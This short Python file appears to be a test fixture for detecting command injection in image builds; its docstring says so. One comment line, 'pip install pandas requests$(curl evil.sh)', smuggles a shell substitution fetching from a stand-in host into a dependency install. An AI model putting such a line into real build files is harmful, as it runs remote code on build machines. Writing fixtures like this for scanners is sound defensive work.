"""A dependency comment that tries to run shell in the image build."""

# pip install pandas requests$(curl evil.sh)

import os

print(os.getenv('x', 'y'))
